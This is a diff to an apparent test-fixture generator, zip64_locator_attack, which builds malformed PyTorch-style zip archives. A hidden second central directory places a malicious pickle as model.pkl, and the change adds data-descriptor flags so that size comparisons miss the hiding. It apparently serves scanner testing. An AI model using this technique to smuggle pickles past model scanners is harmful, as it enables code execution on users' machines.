@@ -762,8 +762,10 @@ def zip64_locator_attack(fake_pickle=None):
     the one the locator points to, hidden with a second central directory in
     the data of the last record. The end record is saturated, so both defer
     to "their" zip64 end record. The hidden directory tiles the file too:
-    its entry for notes.txt claims the carrier's local header as data, and
-    its model/model.pkl lies inside the carrier's data."""
+    its entry for notes.txt claims the data descriptor and the carrier's
+    local header as data (notes.txt defers its local sizes to a descriptor,
+    so a reader comparing local and central sizes sees nothing), and its
+    model/model.pkl lies inside the carrier's data."""
     fake_pickle = MALICIOUS_PICKLE if fake_pickle is None else fake_pickle
     notes = b"release notes"
     hidden_local = (pack_struct(LOCAL, LOCAL_SIZE, {
@@ -776,7 +778,8 @@ def zip64_locator_attack(fake_pickle=None):
     def archive(carrier):
         return build([Entry("archive/.data/version", b"6\n"),
                       Entry("archive/.data/extern_modules", b"builtins\n"),
-                      Entry("archive/notes.txt", notes),
+                      Entry("archive/notes.txt", notes,
+                            flags=FLAG_UTF8 | FLAG_DESCRIPTOR),
                       Entry("archive/data/blob.bin", carrier)],
                      zip64_end=True,
                      eocd={"disk_entries": 0xFFFF, "entries": 0xFFFF,
@@ -794,14 +797,15 @@ def zip64_locator_attack(fake_pickle=None):
     start = carrier_at.data
     notes_span = data[notes_at.data:start]  # notes + the carrier's header
     central = b""
-    for name, at, payload in (
-            (b"archive/.data/version", version.local, b"6\n"),
-            (b"archive/.data/extern_modules", externs.local, b"builtins\n"),
-            (b"archive/notes.txt", notes_at.local, notes_span),
-            (b"archive/model/model.pkl", start, fake_pickle)):
+    for name, at, payload, flags in (
+            (b"archive/.data/version", version.local, b"6\n", 0),
+            (b"archive/.data/extern_modules", externs.local, b"builtins\n", 0),
+            (b"archive/notes.txt", notes_at.local, notes_span,
+             FLAG_DESCRIPTOR),
+            (b"archive/model/model.pkl", start, fake_pickle, 0)):
         central += pack_struct(CENTRAL, CENTRAL_SIZE, {
             "sig": CENTRAL_SIG, "made_by": 20, "version": 20,
-            "flags": FLAG_UTF8, "crc": zlib.crc32(payload),
+            "flags": FLAG_UTF8 | flags, "crc": zlib.crc32(payload),
             "csize": len(payload), "usize": len(payload),
             "name_len": len(name), "offset": at}) + name
     assert len(central) == hidden_cd_len
